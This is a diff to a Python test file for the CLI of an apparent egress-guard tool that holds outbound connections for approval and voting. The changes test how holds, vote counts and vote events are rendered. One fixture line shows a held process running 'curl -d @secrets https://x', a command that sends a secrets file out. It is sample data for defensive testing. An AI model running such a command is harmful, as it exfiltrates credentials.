@@ -151,7 +151,14 @@ def _hold(host: str = "", ip: str = "2001:db8::1", detections: int = 1) -> pb.Ho
 
 def test_hold_text_is_readable() -> None:
     text = ctl.hold_text(_hold())
-    assert text.splitlines()[0].startswith("h-abcdefghij  held 1m15s, expires in 3m44s (then deny)")
+    assert text.splitlines()[0] == ("h-abcdefghij  held 1m15s, expires in 3m44s, "
+                                    "no connection waiting")
+    busy = _hold()
+    busy.count, busy.waiting, busy.required = 3, 2, 2
+    busy.votes.add(user="bob", uid=1001, reason="looks fine")
+    lines = ctl.hold_text(busy).splitlines()
+    assert lines[0] == "h-abcdefghij  held 1m15s, expires in 3m44s, seen 3x, 2 connection(s) waiting"
+    assert lines[-1] == "  votes: 1 of 2; bob (looks fine)"
     assert "who:   alice (uid 1000), pid 7 curl -d @secrets https://x [container 0123456789ab]" in text
     assert "where: [2001:db8::1]:443" in text
     assert "data:  pii.email a***@x.com" in text
@@ -198,6 +205,7 @@ def _fake_verify_module(result: _Result) -> types.ModuleType:
     egressctl reports its VerifyResult."""
     mod = types.ModuleType("egressguard.audit.verify")
     mod.verify = lambda path: result  # type: ignore[attr-defined]
+    mod.verify_set = mod.verify       # type: ignore[attr-defined]
     return mod
 
 
@@ -222,3 +230,12 @@ def test_audit_verify_without_the_module(tmp_path: Any, monkeypatch: pytest.Monk
     monkeypatch.setitem(sys.modules, "egressguard.audit.verify", None)   # import fails
     assert ctl.main(["audit", "verify", str(tmp_path / "a.jsonl")]) == 2
     assert "audit verify is not available" in capsys.readouterr().err
+
+
+def test_vote_events_render() -> None:
+    ev = pb.HoldEvent(kind=pb.HOLD_EVENT_KIND_VOTED, hold=_hold(), time=1.0,
+                      decision=pb.Decision(outcome=pb.OUTCOME_VOTED, by_user="bob", by_uid=1001,
+                                           reason="fine", votes=1, required=2))
+    assert ctl.event_json(ev)["event"] == "voted"
+    assert ctl.event_json(ev)["decision"]["outcome"] == "voted"
+    assert "voted   h-abcdefghij  by bob (uid 1001): fine (1 of 2)" in ctl.event_text(ev)
